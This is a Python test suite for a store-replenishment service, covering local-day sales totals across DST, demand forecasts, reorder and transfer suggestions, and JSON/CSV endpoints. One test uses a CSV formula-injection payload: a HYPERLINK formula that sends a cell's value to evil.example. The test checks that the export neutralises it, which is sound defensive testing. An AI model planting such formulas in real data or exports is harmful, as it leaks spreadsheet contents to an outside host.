"""Reorder and transfer suggestions from ledger rows written straight into the database, on SQLite and
PostgreSQL: the service sums sales per store-local day exactly (DST days, +05:45 and +05:30 zones), fits the
same model the pure domain functions give for those totals, suggests orders only at or below the reorder
point in whole packs under max, and moves stock between stores that are near, not far."""

from __future__ import annotations

import csv
import io
import itertools
import uuid
from collections.abc import AsyncIterator, Iterable
from datetime import UTC, date, datetime, time, timedelta
from typing import Any, Final
from zoneinfo import ZoneInfo

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession

from hub.api.deps import get_now, get_session
from hub.app import create_app
from hub.catalog.models import Sku, StoreProfile
from hub.catalog.values import OpeningHours
from hub.db.engine import session_factory
from hub.domain.forecast import fit, forecast
from hub.domain.replenishment_policy import (
    ReorderPolicy,
    StoreStock,
    TransferPolicy,
    predicted_stockout,
    reorder_suggestion,
    transfer_suggestions,
)
from hub.inventory import replenishment_api
from hub.inventory.models import LedgerRow, StockPolicy, StockPosition
from hub.inventory.replenishment_suggestions import (
    MAX_HISTORY_DAYS,
    chain_transfer_suggestions,
    daily_sales,
    demand_models,
    demand_per_day,
    fitted_model,
    haversine_km,
    history_days_held,
    store_reorder_suggestions,
)
from hub.settings import load_hub_settings

NOW: Final = datetime(2026, 4, 15, 9, 0, tzinfo=UTC)  # a Wednesday; 11:00 in Berlin (summer time)
BERLIN: Final = ZoneInfo("Europe/Berlin")
LONDON: Final = ZoneInfo("Europe/London")
# Europe/London, 51.5074 N 0.1278 W; a degree of latitude is 111.195 km on the mean sphere.
CENTRE: Final = (51.5074, -0.1278)
TWELVE_KM_NORTH: Final = (CENTRE[0] + 12 / 111.195, CENTRE[1])
FIVE_HUNDRED_KM_NORTH: Final = (CENTRE[0] + 500 / 111.195, CENTRE[1])
WEEKDAYS_8_TO_22: Final = {key: ["08:00-22:00"] for key in ("mon", "tue", "wed", "thu", "fri", "sat")} | {"sun": []}


# --------------------------------------------------------------------------- writing the database directly


class Rows:
    """Builds catalog, policy, position and ledger rows and writes them in one transaction."""

    def __init__(self) -> None:
        self.items: list[Any] = []

    def store(
        self,
        store_id: str,
        zone: str,
        *,
        at: tuple[float, float] | None = None,
        hours: dict[str, list[str]] | None = None,
    ) -> None:
        self.items.append(
            StoreProfile(
                store_id=store_id,
                name=store_id,
                timezone=zone,
                currency="EUR",
                opening_hours=hours if hours is not None else {},
                latitude=None if at is None else at[0],
                longitude=None if at is None else at[1],
                updated_at=NOW,
            )
        )

    def sku(self, sku_id: str, *, pack_size: int = 1, name: str | None = None) -> None:
        self.items.append(
            Sku(
                sku_id=sku_id,
                name=name or f"Item {sku_id}",
                pack_size=pack_size,
                price=1,
                currency="EUR",
                updated_at=NOW,
            )
        )

    def policy(
        self,
        store_id: str,
        sku_id: str,
        *,
        max_stock: int,
        reorder_point: int | None = None,
        lead_time_days: int = 0,
        safety_stock: int = 0,
        on_order: int = 0,
    ) -> None:
        self.items.append(
            StockPolicy(
                store_id=store_id,
                sku_id=sku_id,
                max_stock=max_stock,
                reorder_point=reorder_point,
                lead_time_days=lead_time_days,
                safety_stock=safety_stock,
                on_order=on_order,
                updated_at=NOW,
            )
        )

    def on_hand(self, store_id: str, sku_id: str, quantity: int) -> None:
        self.items.append(
            StockPosition(
                store_id=store_id,
                sku_id=sku_id,
                on_hand=quantity,
                counted_at=None,
                last_movement_at=NOW,
                updated_at=NOW,
            )
        )

    def sale(self, store_id: str, sku_id: str, at: datetime, units: int, *, kind: str = "sale") -> None:
        """``units`` sold at ``at`` (an aware time); a negative ``units`` is a return."""
        self.items.append(
            LedgerRow(
                event_id=str(uuid.uuid4()),
                line=1,
                store_id=store_id,
                sku_id=sku_id,
                kind=kind,
                quantity=-units,
                at=at,
                recorded_at=at,
            )
        )

    async def write(self, engine: AsyncEngine) -> None:
        async with session_factory(engine)() as session:
            session.add_all(self.items)
            await session.commit()
        self.items = []


@pytest.fixture
async def session(engine: AsyncEngine) -> AsyncIterator[AsyncSession]:
    async with session_factory(engine)() as s:
        yield s


def local(day: date, hour: int, minute: int, zone: ZoneInfo) -> datetime:
    return datetime.combine(day, time(hour, minute), tzinfo=zone)


def days(first: date, last: date) -> Iterable[date]:
    return (first + timedelta(days=n) for n in range((last - first).days + 1))


# --------------------------------------------------------------------------- local days


MON, TUE, WED = date(2026, 4, 6), date(2026, 4, 7), date(2026, 4, 8)


@pytest.mark.parametrize(
    ("net_ledger", "demand"),
    [
        pytest.param({MON: -12, TUE: -5}, {MON: 12, TUE: 5}, id="sales-are-demand"),
        pytest.param({MON: -12 + 12}, {MON: 0}, id="cancelled-the-same-day"),
        pytest.param({MON: -12, TUE: 12}, {MON: 0, TUE: 0}, id="cancelled-the-next-day"),
        pytest.param({MON: -12, TUE: -5 + 8}, {MON: 9, TUE: 0}, id="next-day-cancellation-beyond-its-days-sales"),
        pytest.param({MON: -12, WED: 12}, {MON: 12, WED: 0}, id="two-days-later-is-no-negative-demand"),
        pytest.param({MON: -3, TUE: 10}, {MON: 0, TUE: 0}, id="never-below-zero"),
    ],
)
def test_cancellations_on_the_same_or_next_day_undo_the_sale(
    net_ledger: dict[date, int], demand: dict[date, int]
) -> None:
    assert demand_per_day(net_ledger) == demand


@pytest.mark.parametrize(
    ("first_sale_day", "days"),
    [
        pytest.param(None, 1, id="no-sale-yet"),
        pytest.param(date(2026, 4, 14), 1, id="first-sale-yesterday"),
        pytest.param(date(2026, 4, 15), 1, id="first-sale-today"),
        pytest.param(date(2026, 2, 14), 60, id="all-the-ledger-holds"),
        pytest.param(date(2024, 1, 1), MAX_HISTORY_DAYS, id="capped-at-the-limit"),
    ],
)
def test_the_history_is_as_long_as_the_ledger_holds_up_to_the_limit(first_sale_day: date | None, days: int) -> None:
    assert history_days_held(date(2026, 4, 15), first_sale_day) == days


def test_a_history_limit_below_one_day_is_refused() -> None:
    with pytest.raises(ValueError, match="max_days"):
        history_days_held(date(2026, 4, 15), None, max_days=0)


async def test_sales_are_summed_per_local_day_across_dst_and_odd_offsets(
    engine: AsyncEngine, session: AsyncSession
) -> None:
    rows = Rows()
    for store_id, zone in (
        ("london", "Europe/London"),
        ("kathmandu", "Asia/Kathmandu"),
        ("kolkata", "Asia/Kolkata"),
        ("elsewhere", "Europe/London"),
    ):
        rows.store(store_id, zone)
    # London, spring forward on Sunday 29 March 2026 at 01:00 UTC: the 29th has 23 hours.
    rows.sale("london", "A", datetime(2026, 3, 28, 23, 30, tzinfo=UTC), 1)  # 23:30 GMT, 28th
    rows.sale("london", "A", datetime(2026, 3, 29, 0, 30, tzinfo=UTC), 2)  # 00:30 GMT, 29th
    rows.sale("london", "A", datetime(2026, 3, 29, 22, 59, tzinfo=UTC), 8)  # 23:59 BST, 29th
    rows.sale("london", "A", datetime(2026, 3, 29, 23, 30, tzinfo=UTC), 4)  # 00:30 BST, 30th
    # London, fall back on Sunday 25 October 2026 at 01:00 UTC: the 25th has 25 hours.
    rows.sale("london", "A", datetime(2026, 10, 24, 22, 59, tzinfo=UTC), 16)  # 23:59 BST, 24th
    rows.sale("london", "A", datetime(2026, 10, 24, 23, 30, tzinfo=UTC), 32)  # 00:30 BST, 25th
    rows.sale("london", "A", datetime(2026, 10, 25, 23, 30, tzinfo=UTC), 64)  # 23:30 GMT, 25th
    rows.sale("london", "A", datetime(2026, 10, 26, 0, 10, tzinfo=UTC), 128)  # 00:10 GMT, 26th
    rows.sale("london", "A", datetime(2026, 10, 26, 0, 20, tzinfo=UTC), -100)  # a return, 26th
    # Not sales of the store: another kind, another store.
    rows.sale("london", "A", datetime(2026, 3, 29, 12, 0, tzinfo=UTC), -1000, kind="receipt")
    rows.sale("elsewhere", "A", datetime(2026, 3, 29, 12, 0, tzinfo=UTC), 1000)
    # Kathmandu is UTC+05:45 and Kolkata UTC+05:30: midnight falls inside a UTC hour.
    for store_id, before, after in (("kathmandu", (18, 10), (18, 20)), ("kolkata", (18, 25), (18, 35))):
        rows.sale(store_id, "A", datetime(2026, 3, 10, *before, tzinfo=UTC), 1)  # 23:55 local, 10th
        rows.sale(store_id, "A", datetime(2026, 3, 10, *after, tzinfo=UTC), 2)  # 00:05 local, 11th
        rows.sale(store_id, "B", datetime(2026, 3, 10, *after, tzinfo=UTC), 5)
    await rows.write(engine)

    spring = await daily_sales(
        session, store_id="london", zone=LONDON, first_day=date(2026, 3, 28), last_day=date(2026, 3, 30)
    )
    assert spring == {"A": {date(2026, 3, 28): 1, date(2026, 3, 29): 10, date(2026, 3, 30): 4}}
    autumn = await daily_sales(
        session, store_id="london", zone=LONDON, first_day=date(2026, 10, 24), last_day=date(2026, 10, 26)
    )
    assert autumn == {"A": {date(2026, 10, 24): 16, date(2026, 10, 25): 96, date(2026, 10, 26): 28}}
    for store_id, zone in (("kathmandu", "Asia/Kathmandu"), ("kolkata", "Asia/Kolkata")):
        sold = await daily_sales(
            session, store_id=store_id, zone=ZoneInfo(zone), first_day=date(2026, 3, 10), last_day=date(2026, 3, 11)
        )
        assert sold == {"A": {date(2026, 3, 10): 1, date(2026, 3, 11): 2}, "B": {date(2026, 3, 11): 5}}, store_id
        one = await daily_sales(
            session,
            store_id=store_id,
            zone=ZoneInfo(zone),
            first_day=date(2026, 3, 11),
            last_day=date(2026, 3, 11),
            sku_id="A",
        )
        assert one == {"A": {date(2026, 3, 11): 2}}, store_id


# --------------------------------------------------------------------------- forecast and reorder


# Units a day by weekday, Monday first: a shop closed on Sundays, busiest on Saturday.
WEEKLY: Final = (10, 12, 11, 13, 15, 25, 0)


async def test_the_forecast_is_the_domain_model_of_the_local_daily_totals(
    engine: AsyncEngine, session: AsyncSession
) -> None:
    rows = Rows()
    rows.store("berlin", "Europe/Berlin", hours=WEEKDAYS_8_TO_22)
    for sku_id, pack in (("P1", 6), ("P2", 1), ("P3", 1), ("P4", 6), ("UNPOLICED", 1)):
        rows.sku(sku_id, pack_size=pack)
    rows.policy("berlin", "P1", max_stock=400, lead_time_days=3, safety_stock=10)
    rows.policy("berlin", "P2", max_stock=60, reorder_point=5)
    rows.policy("berlin", "P3", max_stock=50, reorder_point=5)
    rows.policy("berlin", "P4", max_stock=26, safety_stock=4)  # never sold: the reorder point is the safety stock
    rows.on_hand("berlin", "P1", 40)
    rows.on_hand("berlin", "P2", 30)
    rows.on_hand("berlin", "P3", 0)
    today = NOW.astimezone(BERLIN).date()
    first_day, last_day = today - timedelta(days=56), today - timedelta(days=1)
    expected: dict[str, dict[date, int]] = {"P1": {}, "P2": {}}
    # P1 sells every open day since January (before the window, across the DST change of 29 March), in three
    # rows a day; one customer returned 3 on a Friday. Today's sales (not a closed day) are not history.
    for day in days(date(2026, 1, 19), today):
        units = WEEKLY[day.weekday()]
        if units == 0:
            continue
        for (hour, minute), part in zip(((8, 5), (15, 0), (21, 55)), (1, units - 2, 1), strict=True):
            rows.sale("berlin", "P1", local(day, hour, minute, BERLIN), part)
        expected["P1"][day] = units
    returned = date(2026, 4, 3)
    rows.sale("berlin", "P1", local(returned, 12, 0, BERLIN), -3)
    expected["P1"][returned] -= 3
    # P2 was first sold on 25 March, two every third day: its history starts there, not at the window start.
    for day in itertools.islice(days(date(2026, 3, 25), last_day), 0, None, 3):
        rows.sale("berlin", "P2", local(day, 10, 0, BERLIN), 2)
        expected["P2"][day] = 2
    # P3 sold in January only: eight weeks of zeros, a model whose demand has died away.
    rows.sale("berlin", "P3", local(date(2026, 1, 10), 10, 0, BERLIN), 7)
    rows.sale("berlin", "UNPOLICED", local(date(2026, 4, 1), 10, 0, BERLIN), 7)  # no policy: not modelled
    await rows.write(engine)

    # A fixed eight-week window: SKUs sold before it (P1, P3) get all of it, zeros included.
    p1_series = [(day, expected["P1"].get(day, 0)) for day in days(first_day, last_day)]
    p2_series = [(day, expected["P2"].get(day, 0)) for day in days(date(2026, 3, 25), last_day)]
    p3_series = [(day, 0) for day in days(first_day, last_day)]
    fixed = await demand_models(session, store_id="berlin", zone=BERLIN, today=today, history_days=56)
    assert fixed == {"P1": fit(p1_series), "P2": fit(p2_series), "P3": fit(p3_series)}
    # By default the window is all the store's ledger holds: from its first sale, P3's on 10 January, so each
    # series starts at the SKU's own first sale.
    store_first_day = date(2026, 1, 10)
    p1_series = [(day, expected["P1"].get(day, 0)) for day in days(date(2026, 1, 19), last_day)]
    p3_series = [(store_first_day, 7), *((day, 0) for day in days(store_first_day + timedelta(days=1), last_day))]
    models = await demand_models(session, store_id="berlin", zone=BERLIN, today=today)
    assert models == {"P1": fit(p1_series), "P2": fit(p2_series), "P3": fit(p3_series)}
    p1 = models["P1"]
    assert p1.is_seasonal
    assert not p1.is_intermittent
    assert p1.weekday_indexes[6] < 0.1 < p1.weekday_indexes[5] / 2  # the week's shape was learnt
    assert models["P2"].is_intermittent
    assert models["P3"].level < 0.01  # one sale three months ago: demand has died away
    one = await demand_models(session, store_id="berlin", zone=BERLIN, today=today, sku_id="UNPOLICED")
    assert one == {"UNPOLICED": fit([(date(2026, 4, 1), 7), *((d, 0) for d in days(date(2026, 4, 2), last_day))])}

    report = await store_reorder_suggestions(session, "berlin", now=NOW)
    assert (report.today, report.history_first_day, report.history_last_day) == (today, store_first_day, last_day)
    assert (report.policies_checked, report.problems) == (4, ())
    hours = OpeningHours.from_json(WEEKDAYS_8_TO_22).to_store_hours("Europe/Berlin")
    p1_policy = ReorderPolicy(max_stock=400, pack_size=6, lead_time_days=3, safety_stock=10)
    p1_expected = reorder_suggestion(on_hand=40, policy=p1_policy, model=p1, today=today)
    assert p1_expected is not None, "P1 should be at or below its reorder point in this scenario"
    assert [line.sku_id for line in report.lines] == ["P1", "P3", "P4"]  # P2: 30 on hand, above its point 5
    line_p1, line_p3, line_p4 = report.lines
    assert line_p1.suggestion == p1_expected
    assert line_p1.forecast_week == tuple(forecast(p1, today, 7))
    assert line_p1.predicted_stockout == predicted_stockout(40, p1, NOW.astimezone(BERLIN), hours=hours)
    assert line_p1.predicted_stockout is not None
    assert line_p1.predicted_stockout.tzinfo == BERLIN
    assert line_p1.suggestion.quantity % 6 == 0
    assert line_p1.suggestion.quantity + 40 <= 400
    # Nothing on hand: out of stock now; the dead model forecasts nothing.
    assert (line_p3.suggestion.days_of_cover, line_p3.predicted_stockout) == (0.0, NOW.astimezone(BERLIN))
    assert line_p3.forecast_week == pytest.approx((0.0,) * 7, abs=1e-9)
    # Never sold, no position: on hand 0, up to max 26 in packs of 6 is 24.
    assert (line_p4.on_hand, line_p4.model, line_p4.predicted_stockout) == (0, None, None)
    assert (line_p4.suggestion.reorder_point, line_p4.suggestion.quantity, line_p4.suggestion.packs) == (4, 24, 4)

    # Asked again, the same histories are not fitted again; a late sale on a closed day is a new history for P1.
    fitted_model.cache_clear()
    assert await demand_models(session, store_id="berlin", zone=BERLIN, today=today) == models
    asked = fitted_model.cache_info()
    assert await demand_models(session, store_id="berlin", zone=BERLIN, today=today) == models
    again = fitted_model.cache_info()
    assert (asked.misses, asked.hits, again.misses, again.hits) == (3, 0, 3, 3)
    rows.sale("berlin", "P1", local(last_day, 9, 0, BERLIN), 50)
    await rows.write(engine)
    late = await demand_models(session, store_id="berlin", zone=BERLIN, today=today)
    refitted = fitted_model.cache_info()
    assert (refitted.misses - again.misses, refitted.hits - again.hits) == (1, 2)
    p1_series[-1] = (last_day, p1_series[-1][1] + 50)
    assert late == {**models, "P1": fit(p1_series)} != models


async def test_a_suggestion_only_at_or_below_the_reorder_point_in_whole_packs_under_max(
    engine: AsyncEngine, session: AsyncSession
) -> None:
    rows = Rows()
    rows.store("s-1", "Europe/Paris")
    for sku_id, on_hand, on_order, pack, max_stock in (
        ("ABOVE", 31, 0, 6, 100),
        ("AT", 30, 0, 6, 100),
        ("ORDERED", 20, 15, 6, 100),
        ("NO-ROOM", 29, 0, 12, 40),
    ):
        rows.sku(sku_id, pack_size=pack)
        rows.policy("s-1", sku_id, max_stock=max_stock, reorder_point=30, on_order=on_order)
        rows.on_hand("s-1", sku_id, on_hand)
    await rows.write(engine)

    report = await store_reorder_suggestions(session, "s-1", now=NOW)
    lines = {line.sku_id: line.suggestion for line in report.lines}
    assert sorted(lines) == ["AT", "NO-ROOM"]
    assert (lines["AT"].inventory_position, lines["AT"].quantity, lines["AT"].packs) == (30, 66, 11)  # 96 <= 100
    assert (lines["NO-ROOM"].quantity, lines["NO-ROOM"].packs) == (0, 0)  # room for 11, a pack is 12
    assert "raise max or lower the reorder point" in lines["NO-ROOM"].reasons[-1]


# --------------------------------------------------------------------------- transfers


async def write_chain(engine: AsyncEngine) -> None:
    """An overstocked store, one short 12 km away, one short 500 km away, one without coordinates."""
    rows = Rows()
    rows.sku("TEA", pack_size=12)
    rows.store("centre", "Europe/London", at=CENTRE)
    rows.store("near", "Europe/London", at=TWELVE_KM_NORTH)
    rows.store("far", "Europe/London", at=FIVE_HUNDRED_KM_NORTH)
    rows.store("nowhere", "Europe/London")
    rows.policy("centre", "TEA", max_stock=600, reorder_point=50)
    rows.on_hand("centre", "TEA", 500)
    for store_id in ("near", "far", "nowhere"):
        rows.policy(store_id, "TEA", max_stock=100, reorder_point=20)
        rows.on_hand(store_id, "TEA", 5)
    # The centre sells 5 a day: 100 days of cover.
    for day in days(date(2026, 2, 1), date(2026, 4, 14)):
        rows.sale("centre", "TEA", local(day, 12, 0, LONDON), 5)
    await rows.write(engine)


async def test_stock_moves_to_the_store_12_km_away_not_to_the_one_500_km_away(
    engine: AsyncEngine, session: AsyncSession
) -> None:
    await write_chain(engine)
    assert round(haversine_km(CENTRE, TWELVE_KM_NORTH), 1) == 12.0
    assert round(haversine_km(CENTRE, FIVE_HUNDRED_KM_NORTH), 1) == 500.0

    report = await chain_transfer_suggestions(session, now=NOW, sku_id="TEA")
    assert report.stores_without_location == ("nowhere",)
    assert [(t.sku_id, t.transfer.from_store, t.transfer.to_store) for t in report.transfers] == [
        ("TEA", "centre", "near")
    ]
    transfer = report.transfers[0].transfer
    assert (transfer.quantity, transfer.distance_km) == (95, 12.0)  # up to the receiver's max 100
    centre_model = (await demand_models(session, store_id="centre", zone=LONDON, today=date(2026, 4, 15)))["TEA"]
    expected = transfer_suggestions(
        [
            StoreStock(store_id="centre", on_hand=500, reorder_point=50, max_stock=600, model=centre_model),
            StoreStock(store_id="near", on_hand=5, reorder_point=20, max_stock=100, model=None),
        ],
        distances_km={("centre", "near"): 12.0},
        policy=TransferPolicy(overstock_days=28, max_distance_km=50),
        today=date(2026, 4, 15),
    )
    assert [t.transfer for t in report.transfers] == expected

    # Far enough to reach: the far store gets stock too; packs of 12 when asked for whole packs.
    wide = await chain_transfer_suggestions(session, now=NOW, max_distance_km=600, whole_packs=True)
    # Both receivers have unlimited cover (never sold), so they are served by store id.
    assert [(t.transfer.to_store, t.transfer.quantity, t.transfer.packs) for t in wide.transfers] == [
        ("far", 84, 7),
        ("near", 84, 7),
    ]
    # A high overstock threshold: the centre's 100 days are not too many.
    assert (await chain_transfer_suggestions(session, now=NOW, overstock_days=150)).transfers == ()


# --------------------------------------------------------------------------- HTTP


@pytest.fixture
async def client(engine: AsyncEngine) -> AsyncIterator[httpx.AsyncClient]:
    """An HTTP client on an app with the replenishment router, this test's database and a fixed clock."""
    sessions = session_factory(engine)
    app = FastAPI()
    app.include_router(replenishment_api.router)

    async def session() -> AsyncIterator[AsyncSession]:
        async with sessions() as s:
            yield s

    app.dependency_overrides[get_session] = session
    app.dependency_overrides[get_now] = lambda: NOW
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://127.0.0.1") as http:
        yield http


def bad_parameter(response: httpx.Response) -> list[Any]:
    assert response.status_code == 422, response.text
    return [error["loc"] for error in response.json()["detail"]]


async def test_reorder_suggestions_over_http_as_json_and_csv(engine: AsyncEngine, client: httpx.AsyncClient) -> None:
    await write_chain(engine)
    answer = (await client.get("/api/v1/stores/near/reorder-suggestions")).json()
    assert (answer["store_id"], answer["today"], answer["policies_checked"], answer["problems"]) == (
        "near",
        "2026-04-15",
        1,
        [],
    )
    [item] = answer["items"]
    assert (item["sku_id"], item["quantity"], item["packs"], item["pack_size"]) == ("TEA", 84, 7, 12)
    assert (item["inventory_position"], item["reorder_point"], item["days_of_cover"], item["forecast"]) == (
        5,
        20,
        None,
        [],
    )
    centre = (await client.get("/api/v1/stores/centre/reorder-suggestions")).json()
    assert centre["items"] == []  # 500 on hand, far above 50

    response = await client.get("/api/v1/stores/near/reorder-suggestions", params={"format": "csv"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert (row["sku_id"], row["quantity"], row["days_of_cover"], row["predicted_stockout"]) == ("TEA", "84", "", "")
    assert row["reasons"].startswith("on hand 5 + on order 0 = 5, at or below the reorder point 20; ")

    missing = await client.get("/api/v1/stores/store-0404/reorder-suggestions")
    assert (missing.status_code, missing.json()["detail"]) == (404, "no store profile 'store-0404'")
    bad = await client.get("/api/v1/stores/near/reorder-suggestions", params={"format": "xml", "history_days": 0})
    assert bad_parameter(bad) == [["query", "history_days"], ["query", "format"]]


async def test_reorder_csv_writes_a_formula_like_name_as_text(engine: AsyncEngine, client: httpx.AsyncClient) -> None:
    rows = Rows()
    name = '=HYPERLINK("https://evil.example/?"&A2,"order now")'
    rows.sku("EVIL", pack_size=1, name=name)
    rows.store("near", "Europe/London", at=TWELVE_KM_NORTH)
    rows.policy("near", "EVIL", max_stock=100, reorder_point=20)
    rows.on_hand("near", "EVIL", 5)
    await rows.write(engine)
    assert [i["name"] for i in (await client.get("/api/v1/stores/near/reorder-suggestions")).json()["items"]] == [name]

    response = await client.get("/api/v1/stores/near/reorder-suggestions", params={"format": "csv"})
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["name"] == "'" + name  # shown as text by a spreadsheet, never run
    assert (row["sku_id"], row["quantity"], row["on_hand"]) == ("EVIL", "95", "5")  # numbers stay numbers


async def test_transfer_suggestions_over_http(engine: AsyncEngine, client: httpx.AsyncClient) -> None:
    await write_chain(engine)
    answer = (await client.get("/api/v1/transfer-suggestions", params={"sku_id": "TEA"})).json()
    assert answer["stores_without_location"] == ["nowhere"]
    assert (answer["max_distance_km"], answer["overstock_days"], answer["whole_packs"]) == (50.0, 28.0, False)
    assert [(t["from_store"], t["to_store"], t["quantity"], t["distance_km"]) for t in answer["items"]] == [
        ("centre", "near", 95, 12.0)
    ]
    assert answer["items"][0]["reasons"][2] == "12 km apart, within 50 km"
    wide = (await client.get("/api/v1/transfer-suggestions", params={"max_distance_km": 600})).json()
    assert sorted(t["to_store"] for t in wide["items"]) == ["far", "near"]

    for params, parameter in (
        ({"max_distance_km": -1}, "max_distance_km"),
        ({"max_distance_km": "nan"}, "max_distance_km"),
        ({"overstock_days": "many"}, "overstock_days"),
        ({"overstock_days": 0}, "overstock_days"),
        ({"history_days": 1000}, "history_days"),
    ):
        assert bad_parameter(await client.get("/api/v1/transfer-suggestions", params=params)) == [
            ["query", parameter]
        ], params
    unknown = await client.get("/api/v1/transfer-suggestions", params={"sku_id": "NOPE"})
    assert bad_parameter(unknown) == [["query", "sku_id"]]
    assert unknown.json()["detail"][0]["msg"] == "no SKU 'NOPE'"


def test_the_hub_serves_the_replenishment_routes(sqlite_url: str) -> None:
    app = create_app(load_hub_settings(None, database_url=sqlite_url))
    document = app.openapi()
    assert "/api/v1/stores/{store_id}/reorder-suggestions" in document["paths"]
    assert document["paths"]["/api/v1/transfer-suggestions"]["get"]["tags"] == ["replenishment"]
    assert "replenishment" in {tag["name"] for tag in document["tags"]}
